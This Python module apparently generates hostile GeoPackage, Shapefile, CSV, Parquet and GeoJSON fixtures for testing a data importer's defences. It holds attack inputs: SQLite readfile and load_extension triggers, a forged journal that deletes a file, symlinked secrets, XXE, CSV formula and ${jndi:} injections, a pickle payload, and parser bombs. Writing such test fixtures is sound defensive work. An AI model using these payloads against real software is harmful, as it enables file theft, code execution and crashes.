"""GeoPackages with code in them, and Shapefiles and tables with hostile parts."""

from __future__ import annotations

import json
import os
import pickle
import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

from hostile_bait import NAMES, PEOPLE, Bait, write_layer
from hostile_layers import Write, csv, over_file, over_table


def changed(statements: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage into which something was written by hand."""

    def write(folder: Path, bait: Bait) -> Path:
        path = write_layer(folder / "x.gpkg")
        with closing(sqlite3.connect(path, isolation_level=None)) as connection:
            connection.executescript(statements(bait))
        return path

    return write


def view(select: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage with a view that is registered as a layer."""
    return changed(
        lambda bait: (
            f"CREATE VIEW v AS SELECT {select(bait)} AS found; "
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('v', 'attributes', 'v');"
        )
    )


def virtual_table(definition: Callable[[Bait], str]) -> Write:
    """Return a writer of a GeoPackage with a virtual table, which SQLite makes when it is first looked at."""

    def statements(bait: Bait) -> str:
        sql = f"CREATE VIRTUAL TABLE w USING {definition(bait)}".replace("'", "''")
        return (
            "PRAGMA writable_schema = ON; INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) "
            f"VALUES ('table', 'w', 'w', 0, '{sql}'); PRAGMA writable_schema = OFF; "
            "INSERT INTO gpkg_contents (table_name, data_type, identifier) VALUES ('w', 'attributes', 'w');"
        )

    return changed(statements)


def reference_system(bait: Bait) -> str:
    return f"UPDATE gpkg_spatial_ref_sys SET definition = '{bait.url}crs.wkt' WHERE srs_id = 4326; ALTER TABLE gpkg_spatial_ref_sys ADD definition_12_063 TEXT; UPDATE gpkg_spatial_ref_sys SET definition_12_063 = '{bait.url}crs.wkt', organization = '{bait.url}', organization_coordsys_id = 99;"


def triggers(bait: Bait) -> str:
    return f"CREATE TABLE log (what TEXT); CREATE TRIGGER t AFTER INSERT ON x BEGIN INSERT INTO log SELECT readfile('{bait.file('secret.txt')}'); END; CREATE TRIGGER u AFTER UPDATE ON gpkg_contents BEGIN SELECT load_extension('{bait.file('secret.raw')}'); END;"


def wal_mode(folder: Path, _bait: Bait) -> Path:
    path = write_layer(folder / "x.gpkg")
    with closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA journal_mode = WAL")
    return path


def journal(folder: Path, bait: Bait) -> Path:
    """Write a GeoPackage whose journal says that a file elsewhere may be removed once it was rolled back."""
    path = write_layer(folder / "x.gpkg")
    victim = str(bait.file("victim")).encode()
    bait.file("victim").write_bytes(str(folder / "other-journal").encode() + b"\0")
    page = 4096
    head = b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + struct.pack(">IIIII", 0, 1, path.stat().st_size // page, 512, page)
    end = (
        struct.pack(">I", 1 + (1 << 30) // page)
        + victim
        + struct.pack(">II", len(victim), sum(victim) & 0xFFFFFFFF)
        + b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7"
    )
    (folder / "x.gpkg-journal").write_bytes(head.ljust(512, b"\0") + end)
    return path


def shapefile(change: Callable[[Path, Bait], None]) -> Write:
    """Return a writer of a Shapefile of which one part was changed."""

    def write(folder: Path, bait: Bait) -> Path:
        path = write_layer(folder / "x.shp")
        change(path, bait)
        return path

    return write


def no_index(path: Path, _bait: Bait) -> None:
    path.with_suffix(".shx").unlink()


def crs_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".prj").write_text(f"{bait.url}crs.wkt")


def crs_in_a_file(path: Path, bait: Bait) -> None:
    path.with_suffix(".prj").unlink()
    path.with_suffix(".prj").symlink_to(bait.file("secret.wkt"))


def encoding_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".cpg").write_text(f"../../..{bait.file('secret.txt')}\n{bait.url}")


def notes_elsewhere(path: Path, bait: Bait) -> None:
    path.with_suffix(".shp.xml").write_text(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.url}x">]><metadata>&e;</metadata>')
    path.with_suffix(".qix").write_bytes(b"SQT\x01\x01" + b"\xff" * 400)
    path.with_suffix(".vrt").write_text(over_file(bait))


def attributes_of_others(path: Path, bait: Bait) -> None:
    path.with_suffix(".dbf").unlink()
    path.with_suffix(".dbf").symlink_to(bait.file("secret.dbf"))


def linked(name: str) -> Write:
    """Return a writer of a link to a file of the bait."""

    def write(folder: Path, bait: Bait) -> Path:
        path = folder / f"x{Path(name).suffix}"
        path.symlink_to(bait.file(name))
        return path

    return write


def table_with_guests(folder: Path, bait: Bait) -> Path:
    path = csv(folder)
    for suffix, content in ((".vrt", over_table(bait)), (".csvt", "WKT,Integer\n"), (".prj", f"{bait.url}crs.wkt")):
        path.with_suffix(suffix).write_text(content)
    return path


def formulas(bait: Bait) -> str:
    return f'name,people,lon,lat\n"=HYPERLINK(""{bait.url}"",1)",1,3,45\n"=cmd|\' /C touch {bait.file("taken")}\'!A0",2,3,45\n"@SUM(WEBSERVICE(""{bait.url}""))",3,3,45\n'


def template(bait: Bait) -> str:
    return f"name,people,lon,lat\n{{{{open('{bait.file('secret.txt')}').read()}}}},1,3,45\n${{jndi:{bait.url}}},2,3,45\n%(people)s{{0.__class__}},3,3,45\n"


def absurd_header(folder: Path, _bait: Bait) -> Path:
    path = folder / "x.fgb"
    path.write_bytes(b"fgb\x03fgb\x00" + struct.pack("<I", 0xFFFFFFF0) + bytes(4096))
    return path


def pickled_columns(folder: Path, bait: Bait) -> Path:
    """Write a table whose column type is a program in a pickle."""
    import pyarrow as pa
    import pyarrow.parquet

    notes = {b"ARROW:extension:name": b"arrow.py_extension_type", b"ARROW:extension:metadata": program(bait)}
    schema = pa.schema([pa.field("name", pa.string()), pa.field("people", pa.int64(), metadata=notes)], metadata={b"pandas": program(bait)})
    path = folder / "x.parquet"
    pyarrow.parquet.write_table(pa.table({"name": list(NAMES), "people": list(PEOPLE)}, schema=schema), path)
    return path


class _Opens:
    """Pickles as a call that makes a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str, str]]:
        return open, (str(self.path), "w")


def program(bait: Bait) -> bytes:
    return pickle.dumps(_Opens(bait.file("taken")), protocol=0)


def columns_elsewhere(folder: Path, bait: Bait) -> Path:
    """Write a table whose columns lie, as it says, in another file."""
    import pyarrow.parquet

    metadata = pyarrow.parquet.read_metadata(bait.file("secret.parquet"))
    metadata.set_file_path(os.path.relpath(bait.file("secret.parquet"), folder))
    path = folder / "x.parquet"
    metadata.write_metadata_file(path)
    return path


def parquet_crs(folder: Path, bait: Bait) -> Path:
    import pyarrow.parquet

    path = write_layer(folder / "x.parquet")
    table = pyarrow.parquet.read_table(path)
    geo = json.loads(table.schema.metadata[b"geo"])
    geo["columns"]["geometry"]["crs"] = f"{bait.url}crs.json"
    pyarrow.parquet.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo).encode()}), path)
    return path


def deep(_bait: Bait) -> str:
    return '{"type": "FeatureCollection", "features": ' + "[" * 200_000


def wide(_bait: Bait) -> str:
    row = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [3, 45]}, "properties": {f"c{n}": 1 for n in range(30_000)}}
    return json.dumps({"type": "FeatureCollection", "features": [row]})
